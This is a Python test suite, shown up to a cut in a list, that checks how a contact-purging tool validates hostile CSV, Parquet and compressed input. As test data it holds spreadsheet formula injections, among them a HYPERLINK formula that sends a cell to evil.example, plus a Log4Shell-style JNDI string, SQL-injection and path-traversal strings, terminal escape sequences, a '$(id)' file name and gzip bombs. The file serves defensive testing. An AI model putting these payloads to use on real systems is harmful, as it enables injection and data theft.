"""Tests of hostile and broken input in file, ledger, batches and export, and in what the user is shown.

1. Every bad row has its reason and its line, and the good rows around it are not changed.
2. Every unusable file is refused with a sentence and exit code 2, by ``plan`` and by ``run``.
3. Every URL has one of the two forms of the contract, no cell of an export runs in a spreadsheet, and no text from a
   file or from Graph reaches a terminal or a log unescaped.
"""

from __future__ import annotations

import gzip
import io
import json
import os
import re
from collections import Counter
from pathlib import Path
from typing import Any, NamedTuple

import jwt
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from purgeengine import log_trace, logs
from purgeengine.cli.main import run
from purgeengine.core.graph.decode import decode_answer
from purgeengine.core.model import Outcome
from purgeengine.edges.ledger import LedgerReader, export
from purgeengine.edges.source import open_source
from purgeengine.errors import InputError, LedgerError, UsageProblem
from tests.support.ledger_fixtures import NOW, ended, open_ledger, sent, settled
from tests.support.oracles import check_export, is_quiet, the_whole_way
from tests.support.source_fixtures import CONTACT, FOLDER, USER, a_file, records

HEADER = b"user,folder,contact,note\n"
GUID = "3f2504e0-4f89-11d3-9a0c-0305e82c3301"

BAD_USER = "the user is neither a user principal name (name@domain) nor an object id (GUID)"
LONG_USER = "the user is longer than 320 characters"
NO_USER = "the user is empty"
ENCODED = "percent-encoded"
WINDOWS_NAME = "a Windows account name (DOMAIN\\name), not a user principal name (name@domain)"
BEYOND_ASCII = "the user holds a letter or sign beyond ASCII, which no user principal name has"
SEVERAL = "the user holds several addresses"
A_SPACE = "the user holds a space"
BAD_CONTACT = "the contact id holds a character that no Graph id has"
LONG_CONTACT = "the contact id is longer than 512 characters"
NO_CONTACT = "the contact id is empty"
BAD_FOLDER = "the folder id holds a character that no Graph id has"
LONG_FOLDER = "the folder id is longer than 512 characters"
EWS = "the {} id holds '/', as ids from Exchange Web Services do; Graph writes '-' for '/' and '_' for '+'"
NOT_TEXT = "the row holds bytes that are not UTF-8 text"
HALF_PAIR = "the row holds half of a surrogate pair, which is no character"
HAS_NUL = "the row holds a NUL character"
CELL_TOO_LONG = "the row has a cell of more than 32 KiB"
NOT_TEXT_ANSI = "the row holds bytes that are not UTF-8 text but look like ANSI: save the list as CSV UTF-8"
VALID = None


def cells(count: int) -> str:
    """Return the reason for a row with so many cells."""
    return f"the row has {count} cell{'s' if count > 1 else ''} where the header has 4"


class Hostile(NamedTuple):
    """Lines of a file, and the reason of each row by its line counted from 0; None if the row is valid.

    ``lines`` is the number of lines, after which a good row stands.
    """

    name: str
    text: bytes
    rows: dict[int, str | None]
    lines: int = 1


def quoted(text: str) -> str:
    """Return a cell quoted as CSV writers do."""
    return '"' + text.replace('"', '""') + '"'


def lines_in(text: str) -> int:
    """Return the number of line ends of any kind."""
    return len((text + "x").encode("utf-8", "surrogatepass").splitlines()) - 1


def a_row(
    name: str, reason: str | None, user: str = "eve@x.example", folder: str = "", contact: str = "E", note: str = "n"
) -> Hostile:
    """Return one row with all cells quoted, so that any text stays in its cell."""
    text = ",".join(map(quoted, (user, folder, contact, note))) + "\n"
    return Hostile(name, text.encode("utf-8", "surrogatepass"), {0: reason}, 1 + lines_in(text[:-1]))


CONTROLS = {
    "nul": "\0",
    "bell": "\a",
    "backspace": "\b",
    "tab": "\t",
    "lf": "\n",
    "vt": "\v",
    "ff": "\f",
    "cr": "\r",
    "crlf": "\r\n",
    "escape": "\x1b",
    "unit-separator": "\x1f",
    "del": "\x7f",
    "nel": "\x85",
    "csi": "\x9b",
    "nbsp": "\u00a0",
    "soft-hyphen": "\u00ad",
    "zero-width": "\u200b",
    "joiner": "\u200d",
    "rtl-override": "\u202e",
    "line-separator": "\u2028",
    "bom": "\ufeff",
    "noncharacter": "\ufffe",
    "tag": "\U000e0041",
}

TRICKS = {
    "dots": "..",
    "dot": ".",
    "parent": "../me",
    "parents": "../../me/messages",
    "encoded-slash": "..%2Fme",
    "twice-encoded-slash": "..%252Fme",
    "encoded-dots": "%2e%2e",
    "encoded-backslash": "..%5Cme",
    "encoded-nul": "A%00",
    "encoded-line-end": "A%0d%0aX:1",
    "two-slashes": "//evil.example/A",
    "backslash": "\\\\host\\share",
    "one-backslash": "..\\me",
    "query": "A?$top=1",
    "fragment": "A#B",
    "absolute-url": "https://evil.example/v1.0/me",
    "file-url": "file:///etc/passwd",
    "javascript-url": "javascript:alert(1)",
    "semicolon": "A;type=x",
    "colon": "A:B",
    "ampersand": "A&B=C",
    "at": "A@evil.example:443",
    "parentheses": "('A')",
    "batch": "$batch",
    "template": "${jndi:ldap://x}",
    "json": '","url":"/me',
    "json-backslash": 'A\\","x":"',
    "html": "<script>",
    "sql": "'; DROP TABLE outcome; --",
    "fullwidth-slash": "A\uff0fB",
    "fullwidth-dots": "\uff0e\uff0e",
    "division-slash": "A\u2215B",
    "cyrillic": "\u0410\u0410",
    "combining": "A\u0301",
    "emoji": "\U0001f600",
    "star": "*",
    "brackets": "[A]",
    "formula": "=1+1",
    "at-formula": "@SUM(A1)",
    "space-inside": "A B",
}
ALLOWED_AS_ID: frozenset[str] = frozenset()
"""Tricks that are ids by their characters: none."""

FORMULAS = {
    "equals": "=cmd|' /C calc'!A0",
    "plus": "+1+1",
    "minus": "-2+3",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "apostrophe": "'=1+1",
    "two-apostrophes": "''=1+1",
    "hyperlink": '=HYPERLINK("https://evil.example?"&A1)',
    "equals-alone": "=",
}

NOTES = {
    "clear-screen": "\x1b[2J\x1b[H",
    "set-title": "\x1b]0;owned\a",
    "hyperlink": "\x1b]8;;https://evil.example\x1b\\ok\x1b]8;;\x1b\\",
    "eight-bit-csi": "\x9b31m",
    "rtl-override": "\u202egpj.exe",
    "carriage-return": "ok\rpurged 0",
    "format": "%s%n{0}{__class__}",
    "rich-markup": "[bold red]x[/] [link=https://evil.example]y[/link]",
    "template": "{{7*7}}${7*7}",
    "quotes": 'a"b""c',
    "delimiters": "a,b;c\td",
    "lines": "a\r\nb\nc\rd",
    "empty": "",
    "spaces": "   ",
    "noncharacter": "\uffff",
    "astral": "\U0010ffff",
    "null-word": "NULL",
    "nan": "NaN",
    "long": "n" * 32_768,
}


ENCODED_TRICKS = {name for name in TRICKS if "encoded-" in name}
SPACES = {"tab", "lf", "vt", "ff", "cr", "crlf", "unit-separator", "nel", "nbsp", "line-separator"}
"""Controls that Unicode counts as whitespace."""
INVISIBLE = {
    name: f"holds the invisible character U+{code}; --clean removes it"
    for name, code in {
        "soft-hyphen": "00AD",
        "zero-width": "200B",
        "joiner": "200D",
        "rtl-override": "202E",
        "bom": "FEFF",
    }.items()
}

USER_REASONS = {
    **{f"user-{name}": f"the user is {ENCODED}" for name in ENCODED_TRICKS},
    **{f"user-{name}": f"the user is {WINDOWS_NAME}" for name in ("backslash", "one-backslash", "json-backslash")},
    **{
        f"user-{name}": BEYOND_ASCII
        for name in ("fullwidth-slash", "fullwidth-dots", "division-slash", "cyrillic", "combining", "emoji")
    },
    **{f"user-inside-{name}": BEYOND_ASCII for name in ("csi", "noncharacter", "tag")},
    **{f"user-inside-{name}": A_SPACE for name in SPACES},
    **{f"user-inside-{name}": f"the user {cause}" for name, cause in INVISIBLE.items()},
    **dict.fromkeys(("user-at", "user-two-ats"), "the user has two @ signs"),
    "user-at-formula": "the user begins with '@'",
    "user-two": SEVERAL,
    **dict.fromkeys(("user-umlaut", "user-umlaut-domain"), BEYOND_ASCII),
    "user-space-inside": A_SPACE,
    "user-absolute-url": "the user begins with 'https:'",
    "user-escape-after": f"the user is {ENCODED}",
    "user-dot-at-end": "the user ends with '.'",
    "user-bracketed": "the user is a name and an address (Name <address>), not the address alone",
    "user-mailto": "the user begins with 'mailto:'; --clean removes it",
    "user-guid-in-braces": "the user is in braces; --clean removes it",
}
"""The reasons for users with a known cause; other users have the general reason."""
ID_CAUSES = {
    **dict.fromkeys(ENCODED_TRICKS, f"is {ENCODED}"),
    **dict.fromkeys(("at", "at-formula"), "is an address; no Graph id holds '@'"),
    **dict.fromkeys(("sql", "space-inside"), "holds a space or a line break"),
    **{f"inside-{name}": "holds a space or a line break" for name in SPACES},
    **{f"inside-{name}": cause for name, cause in INVISIBLE.items()},
    "absolute-url": "is a URL: the id is what stands behind its last '/'",
}
"""The causes for ids that are refused."""


def _user_rows() -> list[Hostile]:
    named = {f"user-{name}": f"{trick}@x.example" for name, trick in TRICKS.items() if name not in FINE_AS_USER}
    named |= {f"user-inside-{name}": f"e{control}ve@x.example" for name, control in CONTROLS.items() if name != "nul"}
    named |= {
        "user-no-at": "eve",
        "user-two-ats": "eve@x@y",
        "user-no-name": "@x.example",
        "user-no-domain": "eve@",
        "user-path-after": "eve@x.example/contacts/A",
        "user-query-after": "eve@x.example?a=b",
        "user-escape-after": "eve@x.example%2Fme",
        "user-dots-in-domain": "eve@x..example",
        "user-dot-at-end": "eve@x.example.",
        "user-hyphen-first": "eve@-x.example",
        "user-port": "eve@x.example:443",
        "user-bracketed": "Eve <eve@x.example>",
        "user-mailto": "mailto:eve@x.example",
        "user-two": "eve@x.example;ann@x.example",
        "user-umlaut": "\u00e4nn@x.example",
        "user-umlaut-domain": "eve@\u00fc.example",
        "user-guid-in-braces": "{" + GUID + "}",
        "user-guid-short": GUID[:-1],
        "user-guid-long": GUID + "0",
        "user-guid-urn": "urn:uuid:" + GUID,
        "user-me": "me",
        "user-quoted-name": '"eve"@x.example',
    }
    rows = [a_row(name, USER_REASONS.get(name, BAD_USER), user=user) for name, user in named.items()]
    rows += [
        a_row("user-nul", HAS_NUL, user="e\0ve@x.example"),
        a_row("user-empty", NO_USER, user=""),
        a_row("user-of-spaces", NO_USER, user=" \t\u00a0"),
        a_row("user-321-characters", LONG_USER, user="e" * 311 + "@x.example"),
        a_row("user-320-characters", VALID, user="e" * 310 + "@x.example"),
        a_row("user-of-a-megabyte", CELL_TOO_LONG, user="e" * 1_000_000 + "@x.example"),
        a_row("user-guest", VALID, user="eve_y.example#EXT#@x.example"),
        a_row("user-dollar", VALID, user="$eve'x@x.example"),
        a_row("user-formula-alike", VALID, user="-eve+x@x.example"),
        a_row("user-guid", VALID, user=GUID.upper()),
        a_row("user-slow-for-a-backtracking-matcher", LONG_USER, user="a." * 5_000 + "@"),
        a_row("user-with-spaces-around", VALID, user="\u2003 eve@x.example\t"),
    ]
    return rows


FINE_AS_USER = {"fragment", "ampersand", "batch", "star", "sql"}
"""Tricks of which Entra ID allows every character in a name, or that need their own test."""


def _id_rows(what: str, bad: str, long: str) -> list[Hostile]:
    def reason(name: str) -> str:
        return f"the {what} id {ID_CAUSES[name]}" if name in ID_CAUSES else bad

    rows = []
    for name, trick in TRICKS.items():
        fine = name == "formula"  # an id may begin like a formula; the export neutralises it
        rows.append(a_row(f"{what}-{name}", VALID if fine else reason(name), **{what: trick}))
    for name, control in CONTROLS.items():
        rows.append(
            a_row(
                f"{what}-inside-{name}",
                HAS_NUL if name == "nul" else reason(f"inside-{name}"),
                **{what: f"A{control}B"},
            )
        )
    rows += [
        a_row(f"{what}-ews", EWS.format(what), **{what: "AAMk/AA+="}),
        a_row(f"{what}-slash", EWS.format(what), **{what: "/"}),
        a_row(f"{what}-slashes", EWS.format(what), **{what: "//host"}),
        a_row(f"{what}-513-characters", long, **{what: "A" * 513}),
        a_row(f"{what}-512-characters", VALID, **{what: "A" * 512}),
        a_row(f"{what}-of-33-kib", CELL_TOO_LONG, **{what: "A" * 33_000}),
        a_row(f"{what}-formula-by-its-characters", VALID, **{what: "=-+_"}),
        a_row(f"{what}-with-spaces-around", VALID, **{what: "\u00a0A="}),
        a_row(f"{what}-number", VALID, **{what: "1e400"}),
    ]
    return rows


BYTES = [
    Hostile("latin-1", b"eve@x.example,,E,caf\xe9\n", {0: VALID}),
    Hostile("latin-1-in-the-user", b"\xe9ve@x.example,,E,n\n", {0: NOT_TEXT_ANSI}),
    Hostile("overlong-slash", b"eve@x.example,,A\xc0\xafB,n\n", {0: NOT_TEXT}),
    Hostile("overlong-nul", b"eve@x.example,,A\xc0\x80B,n\n", {0: NOT_TEXT}),
    Hostile("beyond-unicode", b"eve@x.example,,E,\xf4\x90\x80\x80\n", {0: VALID}),
    Hostile("five-byte-form", b"eve@x.example,,E,\xf8\x88\x80\x80\x80\n", {0: VALID}),
    Hostile("continuation-alone", b"eve@x.example,,E,\x80\n", {0: VALID}),
    Hostile("cut-character", b"eve@x.example,,E,\xe2\x82\n", {0: VALID}),
    Hostile("cut-character-before-a-delimiter", b"eve@x.example,,\xe2\x82,n\n", {0: NOT_TEXT}),
    Hostile("byte-ff", b"eve@x.example,,E,\xff\n", {0: VALID}),
    Hostile("high-surrogate", b"eve@x.example,,E,\xed\xa0\x80\n", {0: VALID}),
    Hostile("low-surrogate", b"eve@x.example,,E,\xed\xbf\xbf\n", {0: VALID}),
    Hostile("cesu-8", b"eve@x.example,,E,\xed\xa0\xbd\xed\xb8\x80\n", {0: VALID}),
    Hostile("nul-alone", b"\x00\n", {0: HAS_NUL}),
    Hostile("nul-in-the-note", b"eve@x.example,,E,a\x00b\n", {0: VALID}),
    Hostile("nul-before-the-line-end", b"eve@x.example,,E,n\x00\n", {0: VALID}),
    Hostile("a-thousand-nuls", b"\x00" * 1_000 + b"\n", {0: HAS_NUL}),
    Hostile("end-of-text-mark", b"\x1a\n", {0: cells(1)}),
    Hostile(
        "byte-order-mark-before-the-user", b"\xef\xbb\xbfeve@x.example,,E,n\n", {0: f"the user {INVISIBLE['bom']}"}
    ),
]

UTF_16_INSIDE = [
    Hostile("utf-16-line", "eve@x.example,,E,n\r\n".encode("utf-16-le") + b"\n", dict.fromkeys(range(3), HAS_NUL), 3),
    Hostile("utf-16-line-big-endian", "eve@x.example,,E,n\n".encode("utf-16-be"), {0: HAS_NUL}),
    Hostile("utf-16-mark-and-line", "eve@x.example,,E,n\n".encode("utf-16") + b"\n", {0: HAS_NUL, 1: HAS_NUL}, 2),
    Hostile("utf-16-mark-alone", b"\xff\xfe\n", {0: NOT_TEXT}),
    Hostile("utf-16-cell", b"eve@x.example,," + "E".encode("utf-16-le") + b",n\n", {0: HAS_NUL}),
    Hostile("utf-32-line", "eve@x.example,,E,n\n".encode("utf-32-be"), {0: HAS_NUL}),
]
"""Bytes that ``>>`` of Windows PowerShell appends to a UTF-8 file. A line end in them leaves a NUL to the next line."""

SHAPES = [
    Hostile("no-delimiter", b"just text\n", {0: cells(1)}),
    Hostile("one-cell-short", b"eve@x.example,,E\n", {0: cells(3)}),
    Hostile("one-cell-more", b"eve@x.example,,E,n,m\n", {0: cells(5)}),
    Hostile("a-delimiter-at-the-end", b"eve@x.example,,E,n,\n", {0: cells(5)}),
    Hostile("ten-thousand-delimiters", b"," * 10_000 + b"\n", {0: cells(10_001)}),
    Hostile("only-delimiters", b",,,\n", {}),
    Hostile("other-delimiter", b"eve@x.example;;E;n\n", {0: cells(1)}),
    Hostile("header-again", b"user,folder,contact,note\n", {}),
    Hostile("empty-line", b"\n", {}, 1),
    Hostile("line-of-spaces", b"   \n", {}, 1),
    Hostile("hundred-empty-lines", b"\n" * 100, {}, 100),
    Hostile("line-of-a-tab", b"\t\n", {}),
    Hostile("empty-quotes", b'""\n', {}),
    Hostile("single-quotes", b"'eve@x.example',,E,n\n", {0: "the user is in quotes"}),
    Hostile("a-thousand-quotes", b'eve@x.example,,E,"' + b'""' * 1_000 + b'"\n', {0: VALID}),
    Hostile("spread-over-three-lines", b'eve@x.example,,E,"a\nb\nc"\n', {0: VALID}, 3),
    Hostile("sixty-five-lines", b'eve@x.example,,E,"' + b"\n" * 65 + b'"\n', {0: VALID}, 66),
    Hostile("cr-alone-ends-a-line", b"eve@x.example,,E\rF,n\n", {0: cells(3), 1: cells(2)}, 2),
    Hostile("cr-lf", b"eve@x.example,,E,n\r\n", {0: VALID}),
    Hostile("cr-cr-lf", b"eve@x.example,,E,n\r\r\n", {0: VALID}, 2),
    Hostile("line-of-256-kib", b"n" * 262_145 + b"\n", {0: cells(1)}),
    Hostile("line-of-five-megabytes", b"n," * 2_500_000 + b"\n", {0: cells(2_500_001)}),
    Hostile("quoted-line-of-a-megabyte", b'eve@x.example,,E,"' + b"n" * 1_000_000 + b'"\n', {0: VALID}),
    Hostile("cell-of-32-kib-and-one", b"eve@x.example,,E," + b"n" * 32_769 + b"\n", {0: VALID}),
    Hostile("same-row-twice", b"eve@x.example,,E,n\nEVE@X.example,,E,n\n", {0: VALID, 1: "same contact as row 1"}, 2),
]

ROWS = [
    *_user_rows(),
    *_id_rows("contact", BAD_CONTACT, LONG_CONTACT),
    *_id_rows("folder", BAD_FOLDER, LONG_FOLDER),
    a_row("contact-empty", NO_CONTACT, contact=""),
    a_row("contact-of-spaces", NO_CONTACT, contact=" \u3000"),
    *(a_row(f"note-{name}", VALID, note=note) for name, note in NOTES.items()),
    *(a_row(f"formula-{name}", VALID, note=note) for name, note in FORMULAS.items()),
    *BYTES,
    *UTF_16_INSIDE,
    *SHAPES,
]


def by_name(cases: list[Any]) -> pytest.MarkDecorator:
    """Make one test for each case, with its name as the id."""
    assert len({case.name for case in cases}) == len(cases), "two cases of one name"
    return pytest.mark.parametrize("case", cases, ids=[case.name for case in cases])


# ------------------------------------------------------------------------------------------------------------------------ rows


@by_name(ROWS)
def test_a_hostile_row_is_judged_and_its_neighbours_live(tmp_path: Path, case: Hostile) -> None:
    """A hostile row has its outcome and line, and the good rows before and after it wait to be sent."""
    good = f"{USER},{FOLDER},{CONTACT}%d,fine\n".encode()
    path = a_file(tmp_path, HEADER + good % 1 + case.text + good % 2 + good % 3)
    found = the_whole_way(tmp_path, [path])
    lines = [row["line"] for row in records(open_source([path]))]
    expected = {2: VALID, **{3 + line: reason for line, reason in case.rows.items()}}
    expected |= dict.fromkeys((3 + case.lines, 4 + case.lines), VALID)
    assert lines == list(expected)
    for row, (line, reason) in zip(found, expected.items(), strict=True):
        if reason is VALID:
            assert (row["outcome"], row["message"]) == ("", ""), row["message"]
        elif reason.startswith("same contact"):
            assert (row["outcome"], row["message"]) == ("duplicate", reason)
        else:
            assert (row["outcome"], row["message"]) == ("invalid", f"line {line} of input.csv: {reason}")
    around = [found[0], *found[-2:]]
    assert [(row["user"], row["folder"], row["contact"], row["note"]) for row in around] == [
        (USER, FOLDER, f"{CONTACT}{number}", "fine") for number in (1, 2, 3)
    ]


def test_hostile_notes_survive_the_round_trip(tmp_path: Path) -> None:
    """A hostile note comes back unchanged from an export that is read again."""
    notes = [*NOTES.values(), *FORMULAS.values()]
    rows = [a_row("x", VALID, contact=f"E{number}", note=note).text for number, note in enumerate(notes)]
    the_whole_way(tmp_path, [a_file(tmp_path, HEADER + b"".join(rows))])
    assert [row["note"] for row in records(open_source([tmp_path / "out.csv"]))] == notes


def expected_reasons(cases: list[Hostile], first_line: int) -> dict[int, str | None]:
    """Return the reason for each line of these cases, one after another."""
    expected: dict[int, str | None] = {}
    for case in cases:
        reasons = {
            line: VALID if (reason or "").startswith("same contact") else reason for line, reason in case.rows.items()
        }
        expected |= {first_line + line: reason for line, reason in reasons.items()}
        first_line += case.lines
    return expected


def test_all_hostile_rows_together_are_judged_as_each_alone(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    """One file with every hostile row gives each row its own line and reason, and ``plan`` counts them by reason."""
    path = a_file(tmp_path, HEADER + b"".join(case.text for case in ROWS))
    expected = expected_reasons(ROWS, 2)
    found = {row["line"]: row["reason"] for row in records(open_source([path]))}
    assert found == expected
    assert run(["plan", str(path), "--json"]) == 0
    assert json.loads(capsys.readouterr().out)["invalid_by_reason"] == Counter(filter(None, expected.values()))


# --------------------------------------------------------------------------------------------------------- headers and whole files


class Accepted(NamedTuple):
    """An unusual file that is accepted: name, bytes, numbers of valid and invalid rows, and extra columns."""

    name: str
    file: str
    content: bytes
    valid: int
    invalid: int = 0
    extras: tuple[str, ...] = ()


LINE = f"{USER},{CONTACT}\n".encode()
NARROW = b"user,contact\n"


def zstd(data: bytes) -> bytes:
    return bytes(pa.compress(data, codec="zstd", asbytes=True))


def parquet(columns: dict[str, Any] | pa.Table) -> bytes:
    """Return the table as a Parquet file."""
    sink = io.BytesIO()
    pq.write_table(columns if isinstance(columns, pa.Table) else pa.table(columns), sink)
    return sink.getvalue()


def renamed(*names: str) -> bytes:
    """Return a Parquet file whose columns have these names."""
    return parquet(pa.Table.from_arrays([pa.array(["x"])] * len(names), list(names)))


def wide_header(others: int, prefix: str = "c") -> bytes:
    """Return a header with so many extra columns."""
    return ("user,contact" + "".join(f",{prefix}{n}" for n in range(others)) + "\n").encode()


def wide_parquet(others: int) -> bytes:
    """Return a Parquet file of one good row with so many extra columns."""
    return parquet({"user": [USER], "contact": ["A"], **{f"c{n}": [f"={n}"] for n in range(others)}})


ACCEPTED = [
    Accepted("bom", "a.csv", b"\xef\xbb\xbf" + NARROW + LINE, 1),
    Accepted("two-boms", "a.csv", b"\xef\xbb\xbf\xef\xbb\xbf" + NARROW + LINE, 1),
    Accepted("bom-inside-quotes", "a.csv", b'\xef\xbb\xbf"user","contact"\n' + LINE, 1),
    Accepted("utf-16-with-mark", "a.csv", (NARROW + LINE).decode().encode("utf-16"), 1),
    Accepted("utf-16-big-endian", "a.csv", b"\xfe\xff" + (NARROW + LINE).decode().encode("utf-16-be"), 1),
    Accepted("utf-16-cut-in-a-character", "a.csv", (NARROW + LINE).decode().encode("utf-16") + b"A", 1, 1),
    Accepted("shouting-header", "a.csv", b"USER,CONTACT\n" + LINE, 1),
    Accepted("header-in-spaces", "a.csv", b"  user\t, contact \n" + LINE, 1),
    Accepted(
        "header-over-two-lines", "a.csv", b'user,contact,"my\nnote"\n' + LINE.strip() + b",n\n", 1, extras=("my note",)
    ),
    Accepted("header-without-line-end", "a.csv", NARROW.strip(), 0),
    Accepted("empty-lines-first", "a.csv", b"\n\r\n  \n" + NARROW + LINE, 1),
    Accepted("powershell-type", "a.csv", b"#TYPE Selected.Contact\n" + NARROW + LINE, 1),
    Accepted(
        "nameless-columns",
        "a.csv",
        b"user,,contact,\n" + f"{USER},a,{CONTACT},b\n".encode(),
        1,
        extras=("column_2", "column_4"),
    ),
    Accepted("formula-as-a-name", "a.csv", b"user,contact,=cmd|x\n" + LINE.strip() + b",1\n", 1, extras=("=cmd|x",)),
    Accepted(
        "markup-as-a-name", "a.csv", b"user,contact,[red]x[/]\n" + LINE.strip() + b",1\n", 1, extras=("[red]x[/]",)
    ),
    Accepted(
        "sql-as-a-name",
        "a.csv",
        b'user,contact,"x\'); DROP TABLE row;--"\n' + LINE.strip() + b",1\n",
        1,
        extras=("x'); DROP TABLE row;--",),
    ),
    Accepted(
        "rtl-override-as-a-name",
        "a.csv",
        "user,contact,\u202exyz\n".encode() + LINE.strip() + b",1\n",
        1,
        extras=("\u202exyz",),
    ),
    Accepted(
        "names-of-the-ledger",
        "a.csv",
        b"user,contact,row,OUTCOME,reason\n" + LINE.strip() + b",1,2,3\n",
        1,
        extras=("input_row", "input_OUTCOME", "input_reason"),
    ),
    Accepted(
        "1000-other-columns",
        "a.csv",
        wide_header(1_000) + LINE.strip() + b",=" * 1_000 + b"\n",
        1,
        extras=tuple(f"c{n}" for n in range(1_000)),
    ),
    Accepted(
        "1000-other-columns-in-parquet",
        "a.parquet",
        wide_parquet(1_000),
        1,
        extras=tuple(f"c{n}" for n in range(1_000)),
    ),
    Accepted("no-line-end-at-the-end", "a.csv", NARROW + LINE.strip(), 1),
    Accepted("compressed-without-a-name", "a.csv", gzip.compress(NARROW + LINE), 1),
    Accepted("zstd", "a.csv.zst", zstd(NARROW + LINE), 1),
    Accepted("gzip-of-two-members", "a.csv.gz", gzip.compress(NARROW) + gzip.compress(LINE), 1),
    Accepted("gzip-bomb-of-spaces", "a.csv.gz", gzip.compress(NARROW + b" " * 40_000_000 + b"\n" + LINE, 9), 1),
    Accepted("gzip-bomb-of-lines", "a.csv.gz", gzip.compress(NARROW + b"\n" * 3_000_000 + LINE, 9), 1),
    Accepted("zstd-bomb-of-one-cell", "a.csv.zst", zstd(NARROW + b"A" * 40_000_000 + b"\n" + LINE), 1, 1),
    Accepted("semicolons-in-a-txt", "contacts.txt", f"user;contact\n{USER};{CONTACT}\n".encode(), 1),
    Accepted("tabs-without-any-ending", "contacts", f"user\tcontact\n{USER}\t{CONTACT}\n".encode(), 1),
    Accepted("a-name-in-another-script", "\u9023\u7d61\u5148 \U0001f600.csv", NARROW + LINE, 1),
    Accepted("a-name-like-an-option", "--ledger.csv", NARROW + LINE, 1),
    Accepted("a-name-with-markup", "[bold]%s{0}$(id).csv", NARROW + LINE, 1),
]


@by_name(ACCEPTED)
def test_an_odd_file_is_read(tmp_path: Path, case: Accepted) -> None:
    """An unusual file is read with all rows, and its extra columns have names that an export can use."""
    path = a_file(tmp_path, case.content, case.file)
    assert open_source([path]).extra_columns == case.extras
    outcomes = [row["outcome"] for row in the_whole_way(tmp_path, [path])]
    assert (outcomes.count(""), outcomes.count("invalid")) == (case.valid, case.invalid)
    assert len(outcomes) == case.valid + case.invalid


class Refused(NamedTuple):
    """A file that cannot be used, and words of the sentence that refuses it."""

    name: str
    file: str
    content: bytes
    said: str


PLAIN_PARQUET = parquet({"user": [USER] * 500, "contact": [f"A{n}" for n in range(500)]})
MANY = NARROW + b"".join(f"{USER},{CONTACT}{n * 7_919 % 100_003}\n".encode() for n in range(40_000))
GZIPPED, ZSTD = gzip.compress(MANY), zstd(MANY)

REFUSED = [
    Refused("empty", "a.csv", b"", "is empty"),
    Refused("empty-gzip-name", "a.csv.gz", b"", "is empty"),
    Refused("empty-parquet", "a.parquet", b"", "is empty"),
    Refused("bom-alone", "a.csv", b"\xef\xbb\xbf", "holds no header line"),
    Refused("line-ends-alone", "a.csv", b"\r\n\n\r", "holds no header line"),
    Refused("spaces-alone", "a.csv", b"  \n  ", "holds no header line"),
    Refused("nul-alone", "a.csv", b"\0", "no text at all"),
    Refused("noughts", "a.csv", bytes(100_000), "no text at all"),
    Refused("utf-16-without-mark", "a.csv", "user,contact\n".encode("utf-16-le"), "UTF-16 text without"),
    Refused("utf-32", "a.csv", "user,contact\n".encode("utf-32"), "UTF-32"),
    Refused("utf-16-mark-alone", "a.csv", b"\xff\xfe", "holds no header line"),
    Refused("latin-1-header", "a.csv", b"us\xe9r,contact\n", "not UTF-8"),
    Refused("escape-in-the-header", "a.csv", b"user,contact,\x1b[2J\n", "control characters"),
    Refused("csi-in-the-header", "a.csv", b"user,contact,\xc2\x9b2J\n", "control characters"),
    Refused("nul-in-the-header", "a.csv", b"user,contact,a\0b\n", "no text at all"),
    Refused("surrogate-in-the-header", "a.csv", b"user,contact,\xed\xa0\x80\n", "half of a surrogate pair"),
    Refused("no-columns-known", "a.csv", b"a,b\n1,2\n", "no column for the user and the contact"),
    Refused("no-user", "a.csv", b"contact,b\n1,2\n", "no column for the user"),
    Refused("no-contact", "a.csv", b"user,b\n1,2\n", "no column for the contact"),
    Refused("bars", "a.csv", b"user|contact\n", "no column for the user"),
    Refused("rows-without-header", "a.csv", LINE, "no column for the user"),
    Refused("json-cut", "a.csv", b'[{"user": "a@x", "contact": "A"}', "JSON"),
    Refused(
        "html",
        "a.csv",
        b"<html><body>Sign in</body></html>",
        "is not a CSV, JSON or Parquet file\\. It is a web page\\.",
    ),
    Refused("same-name-twice", "a.csv", b"user,contact,note,Note\n", "columns of the same name"),
    Refused("user-twice", "a.csv", b"user,USER ,contact\n", "columns of the same name"),
    Refused("rtl-name-twice", "a.csv", "user,contact,\u202ex,\u202ex\n".encode(), "columns of the same name"),
    Refused("contact-id-or-id", "a.csv", b"user,contactId,id\n", "Say which with --columns"),
    Refused("1001-other-columns", "a.csv", wide_header(1_001), "1,001 columns besides those of a ledger"),
    Refused("1001-other-columns-in-parquet", "a.parquet", wide_parquet(1_001), "1,001 columns besides"),
    Refused("names-of-65-kib", "a.csv", wide_header(290, "n" * 230), "longer than 64 KiB together"),
    Refused("same-name-a-thousand-times", "a.csv", b"user,contact," + b"c," * 999 + b"c\n", "columns of the same name"),
    Refused("long-name", "a.csv", b"user,contact," + b"c" * 300 + b"\n", "usable header"),
    Refused(
        "header-of-a-megabyte", "a.csv", b"user,contact," + b"c" * 1_000_000 + b"\n", "the row is longer than 512 KiB"
    ),
    Refused("open-quote-in-the-header", "a.csv", b'user,"contact\n' + LINE * 100, "opens a quote that is never closed"),
    Refused("zip", "a.csv", b"PK\x03\x04" + b"x" * 50, "Excel workbook"),
    Refused("old-excel", "a.csv", b"\xd0\xcf\x11\xe0" + b"x" * 50, "old Excel workbook"),
    Refused("pdf", "a.csv", b"%PDF-1.7", "PDF"),
    Refused("encrypted-parquet", "a.parquet", b"PARE" + b"x" * 50 + b"PARE", "its content is not Parquet|encrypted"),
    Refused("csv-called-gz", "a.csv.gz", NARROW + LINE, "its content is not gzip"),
    Refused("csv-called-zst", "a.csv.zst", NARROW + LINE, "its content is not zstd"),
    Refused("csv-called-parquet", "a.parquet", NARROW + LINE, "its content is not Parquet"),
    Refused("zstd-called-gz", "a.csv.gz", zstd(NARROW), "its content is not gzip"),
    Refused("gzip-called-parquet", "a.parquet", gzip.compress(NARROW), "its content is not Parquet"),
    Refused(
        "parquet-in-gzip", "a.csv.gz", gzip.compress(PLAIN_PARQUET), "a Parquet file that was compressed as a whole"
    ),
    Refused("gzip-in-gzip", "a.csv.gz", gzip.compress(gzip.compress(NARROW)), "does not begin with a CSV header"),
    Refused("gzip-of-nothing", "a.csv.gz", gzip.compress(b""), "holds no header line"),
    Refused("gzip-head-alone", "a.csv.gz", gzip.compress(MANY)[:10], "damaged or cut short|holds no header"),
    Refused("gzip-cut", "a.csv.gz", GZIPPED[: len(GZIPPED) // 2], "damaged or cut short"),
